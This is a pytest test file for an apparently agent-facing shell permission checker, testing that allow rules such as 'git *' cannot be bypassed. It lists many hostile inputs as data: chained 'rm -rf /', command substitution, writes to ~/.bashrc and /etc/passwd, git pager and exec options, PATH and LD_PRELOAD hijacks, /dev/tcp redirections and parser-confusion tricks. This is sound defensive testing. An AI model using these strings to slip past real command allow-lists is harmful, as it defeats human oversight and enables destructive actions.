"""Rules that allow commands: what gets around them elsewhere does not here."""

from __future__ import annotations

import pytest

from agentctl.core.permissions import suggested
from agentctl.core.shell_rules import words_of
from tests.core.rule_parts import CWD, SHELL, call, rules, shell

GIT = rules("allow", "run_shell: git *")

NOT_GIT = [
    "git status; rm -rf /",
    "git status && rm -rf /",
    "git status || rm x",
    "git status & rm x",
    "git status &rm x",
    "git status\nrm x",
    "git status\r\nrm x",
    "git status\rrm x",
    "git log | sh",
    "git log |& sh",
    "git $(rm x)",
    "git status $(rm x)",
    "git `rm x`",
    'git commit -m "$(rm x)"',
    'git commit -m "`rm x`"',
    "git status <(rm x)",
    "git status > ~/.bashrc",
    "git log >> /etc/passwd",
    "git log >| x",
    "git log &> x",
    "git log >& x",
    "git log 2> x",
    "git log <> x",
    "git log > /dev/null/../x",
    "git log > $X",
    "git -c core.pager='rm x' log",
    "git -c alias.x='!rm x' x",
    "git -ccore.pager=x log",
    "git -C /tmp/evil status",
    "git --exec-path=/tmp/evil status",
    "git --git-dir=/tmp/evil status",
    "git --config-env=core.pager=X log",
    "GIT_PAGER='rm x' git log",
    "GIT_SSH_COMMAND=x git fetch",
    "PATH=/tmp/evil:$PATH git status",
    "PATH=/tmp/evil; git status",
    "LD_PRELOAD=./x.so git status",
    "git log --output=/etc/x",
    "git log --outpu=/etc/x",
    "git log --output /etc/x",
    "git diff --ext-diff",
    "git fetch --upload-pack='rm x' origin",
    "git fetch --upload-pa='rm x' origin",
    "git push --receive-pack=x",
    "git push --exec=x",
    "git clone -u 'rm x' y",
    "git clone -c core.fsmonitor=x y",
    "git clone --template=/tmp/evil y",
    "git clone 'ext::sh -c rm'",
    "git remote add x ext::sh",
    "git grep -O'rm x' y",
    "git grep --open-files-in-pager=rm y",
    "git rebase -x 'rm x' HEAD~3",
    "git rebase --exec 'rm x' HEAD~3",
    "git submodule foreach 'rm x'",
    "git bisect run rm x",
    "git config core.pager 'rm x'",
    "git config alias.st '!rm x'",
    "git st",
    "git difftool -x rm",
    "git $X",
    "git {status,-c,x}",
    "git *",
    "git status $X",
    "git stat?s",
    "./git status",
    "/tmp/git status",
    "~/git status",
    "gIt status",
    "env git status",
    "sudo git status",
    "command git status",
    "exec git status",
    "nohup git status",
    "time git status",
    "xargs git status",
    "eval git status",
    "bash -c 'git status'",
    "sh -c 'git status; rm x'",
    "git() { rm x; }; git status",
    "function git { rm x; }; git status",
    "alias git=rm\ngit x",
    "if git status; then rm x; fi",
    "for f in a; do rm $f; done",
    "while git status; do rm x; done",
    "for PATH in /tmp/evil; do git status; done",
    "case x in x) rm x;; esac",
    "case $(rm x) in x) git status;; esac",
    "{ git status; rm x; }",
    "(git status; rm x)",
    "git status <<EOF\n$(rm x)\nEOF",
    "git status <<EOF\nEOF\nrm x",
    "git status <<'A'\nx\n A\nA\nrm x",
    "git status <<-A\n\tA\nrm x\nA",
    "git status <<A\nx\\\nA\nrm x\nA",
    "git status # x\nrm x",
    "git status #\\\nrm x",
    "git status${IFS};rm",
    "git status 'x'\"'\";rm x;'\"'",
    "git status $'a\\'; rm x #'",
    "git status $'a\\' ; git log '; rm x #'",
    'git status "$\\\n(rm x)"',
    "git status ${X:-$(rm x)}",
    "git status ${X@P}",
    "git status ${X:=y}",
    "git status $((X=1))",
    "git status $[1]",
    "a[1<<2]=3\nrm x\n2]=3",
    "export a[1<<2]=3\nrm x\n2]=3",
    "((1<<2))\nrm x\n2",
    "git\u00a0status",
    "git\u2003status",
    "git\x0bstatus",
    "git status \u202e",
    "git status\x00; rm x",
    "git status \ud800",
    "git 'status",
    "git status )",
    "git status (",
    "git status ;;",
    "",
    "   ",
    "# only a comment",
    "X=1",
    "> /dev/null",
    "$X status",
    "$(echo git) status",
    "g\\it$X status",
    "git " + "a" * 50_000,
    "git status;" * 600,
    "git status " + "$(" * 5_000,
]


@pytest.mark.parametrize("command", NOT_GIT, ids=range(len(NOT_GIT)))
def test_allowing_git_does_not_allow(command: str) -> None:
    assert shell(GIT, command) == "none"


PLAIN = [
    ("git *", "git"),
    ("git *", "git status"),
    ("git *", "  git   status  "),
    ("git *", "git status -sb"),
    ("git *", 'git commit -m "a; b && c"'),
    ("git *", "git commit -m 'rm -rf / `x` $(y) > z'"),
    ("git *", "git log --format='%h | %s'"),
    ("git *", "git log --oneline -5 -- src/a.py"),
    ("git *", "git --no-pager log"),
    ("git *", "git diff HEAD~1 HEAD^ stash@{0}"),
    ("git *", "git add src/*.py"),
    ("git *", "git commit -m $'x' -m y"),
    ("git *", "git commit -m 'Grüße 🎉 \u00a0'"),
    ("git *", "git status # what is new"),
    ("git *", "git status;"),
    ("git *", "git status 2>&1"),
    ("git *", "git status 2>/dev/null"),
    ("git *", "git status > /dev/null 2>&1"),
    ("git *", "git status &> /dev/null"),
    ("git *", "git apply < fix.patch"),
    ("git *", "git status && git log"),
    ("git *", "git add . ; git commit -m x"),
    ("git *", "git status \\\n  --short"),
    ("git *", "git log | git shortlog"),
    ("git *", "if git diff --quiet; then git status; else git log; fi"),
    ("git *", "( git status )"),
    ("git *", "{ git status; }"),
    ("git *", "! git diff --quiet"),
    ("git *", "g'i't \"status\""),
    ("git *", "\\git status"),
    ("git *", "git commit -F - <<'EOF'\nA subject; with $(signs)\nEOF"),
    ("git *", "git commit -F - <<EOF\nA subject\nEOF\ngit push"),
    ("git *", "for f in a b; do git log; done"),
    ("git *", "case a in a|b) git log;; *) git status;; esac"),
    ("git log *", "git log -p"),
    ("git log *", "git log"),
    ("git status", "git status"),
    ("npm test", "npm test"),
    ("npm run *", "npm run build:all -- --watch"),
    ("npm run test:*", "npm run test:unit"),
    ("cargo * --release", "cargo build --release"),
    ("make ** test", "make -j 4 test"),
    ('grep "a b" *', "grep 'a b' file.txt"),
    ("grep *", "grep -rn 'x*y' ."),
    ("find *", "find . -name '*.py' -type f"),
    ("sed *", "sed -n '1,5p' a.txt"),
    ("sed *", "sed 's/a;b/c|d/g' a.txt"),
    ("awk *", "awk -F, '{print $1}' a.csv"),
    ("tar *", "tar xzf a.tgz"),
    ("sort *", "sort -u a.txt"),
    ("rg *", "rg -n 'a|b' src"),
    ("pytest *", "pytest -q tests/core -k 'a and not b'"),
    ("echo *", "echo $HOME"),
    ("ls *", "ls *.py {a,b} ~"),
    ("sudo apt *", "sudo apt list"),
    ("git -c * log", "git -c x=y log"),
    ("git config *", "git config --get user.name"),
    ("find * -delete", "find x -delete"),
    ("=git status > x", "git status > x"),
    ("=rm *", "rm *"),
    ("*", "anything | at > all"),
    ("bash -c *", "bash -c 'git status'"),
    ("[ *", "[ -f x ]"),
    ("echo '*'", "echo '*'"),
]


@pytest.mark.parametrize(("pattern", "command"), PLAIN, ids=range(len(PLAIN)))
def test_an_allowing_rule_allows(pattern: str, command: str) -> None:
    assert shell(rules("allow", f"run_shell: {pattern}"), command) == "allow"


NARROW = [
    ("git status", "git status -s"),
    ("git log *", "git push"),
    ("git log *", "git"),
    ("git", "git status"),
    ("cargo * --release", "cargo --release"),
    ("cargo * --release", "cargo $X --release"),
    ("* --version", "sudo --version"),
    ("* *", "eval x"),
    ("g* *", "env rm"),
    ("b* *", "bash -c x"),
    ("find *", "find . -exec rm {} ;"),
    ("find *", "find . -delete"),
    ("find *", "find . -fprint /etc/x"),
    ("find *", "find . *"),
    ("find *", "find . $X"),
    ("sed *", "sed '1e rm x' a"),
    ("sed *", "sed 's/a/rm x/e' a"),
    ("sed *", "sed 's/a/b/w /etc/x' a"),
    ("sed *", "sed -n '/x/w /etc/x' a"),
    ("sed *", "sed -i s/a/b/ a"),
    ("sed *", "sed -f script a"),
    ("sed *", 'sed "s/a/$X/" a'),
    ("awk *", "awk 'BEGIN{system(\"rm x\")}'"),
    ("awk *", "awk '{print > \"/etc/x\"}'"),
    ("awk *", "awk -f evil.awk"),
    ("tar *", "tar xf a.tar --to-command=rm"),
    ("tar *", "tar cf a.tar --checkpoint=1 --checkpoint-act=exec=rm b"),
    ("tar *", "tar cf a.tar *"),
    ("tar *", "tar -I 'rm x' -xf a.tar"),
    ("tar *", "tar cIf rm a.tar b"),
    ("sort *", "sort --compress-program=rm a"),
    ("sort *", "sort -o /etc/x a"),
    ("rg *", "rg --pre=rm x"),
    ("rg *", "rg $PATTERN --pre=rm"),
    ("man *", "man --html=rm x"),
    ("man *", "man -P rm x"),
    ("go *", "go vet -vettool=/tmp/x"),
    ("fd *", "fd x -x rm"),
    ("curl *", "curl -o /etc/x http://x"),
    ("curl *", "curl -sKx"),
    ("printf *", "printf -v 'a[$(rm x)]' 1"),
    ("test *", "test -v 'a[$(rm x)]'"),
    ("xargs ls", "xargs rm"),
    ("echo *", "echo x > y"),
    ("echo *", "echo x >/dev/tcp/1.2.3.4/80"),
    ("cat *", "cat < /dev/tcp/1.2.3.4/80"),
    ("=git status > x", "git status > y"),
    ("=rm *", "rm a"),
    ("echo '*'", "echo a"),
    ("echo '*'", "echo *"),
]


@pytest.mark.parametrize(("pattern", "command"), NARROW, ids=range(len(NARROW)))
def test_an_allowing_rule_does_not_allow(pattern: str, command: str) -> None:
    assert shell(rules("allow", f"run_shell: {pattern}"), command) == "none"


def test_every_command_may_be_allowed_by_a_rule_of_its_own() -> None:
    both = rules("allow", "run_shell: git *", "run_shell: npm test")
    assert shell(both, "git status && npm test | git apply") == "allow"
    assert shell(both, "git status && npm publish") == "none"


@pytest.mark.parametrize(
    ("command", "pattern"),
    [
        ("git status", "git status *"),
        ("git log -p", "git log *"),
        ("npm test", "npm test *"),
        ("git push origin main", "git push origin main"),
        ("npm run build", "npm run build"),
        ("rm -rf build", "rm -rf build"),
        ("rm *", "=rm *"),
        ("git status && npm test", "=git status && npm test"),
        ("git log > x", "=git log > x"),
        ("git commit -m 'a b'", "git commit *"),
        ("echo 'a b'", "=echo 'a b'"),
        ("git -c a=b log", "git -c a=b log"),
        ("git log --output=x", "=git log --output=x"),
        ("sudo ls", "sudo ls"),
        ("echo '", "=echo '"),
        ("git st\\*", "=git st\\*"),
    ],
)
def test_an_always_stores_a_narrow_rule_that_allows_the_same_again(
    command: str, pattern: str
) -> None:
    found = suggested(call(SHELL, command=command), SHELL, CWD)
    assert (found.pattern, found.effect, found.source) == (pattern, "allow", "always")
    assert shell([found], command) == "allow"


@pytest.mark.parametrize(
    ("pattern", "words"),
    [
        ("git *", ("git", "**")),
        ("*", ("*",)),
        ("a ** b", ("a", "**", "b")),
        ("'a b'  \"c\"", ("a b", "c")),
        ("a '*' \\*", ("a", "[*]", "[*]")),
        ("a ''", ("a", "")),
    ],
)
def test_a_pattern_is_read_as_words(pattern: str, words: tuple[str, ...]) -> None:
    assert words_of(pattern) == words


@pytest.mark.parametrize("pattern", ["a; b", "a | b", "a > b", "$(a)", "`a`", "a 'b", "", " "])
def test_a_pattern_is_for_one_command(pattern: str) -> None:
    with pytest.raises(ValueError, match=r"pattern|quote"):
        words_of(pattern)
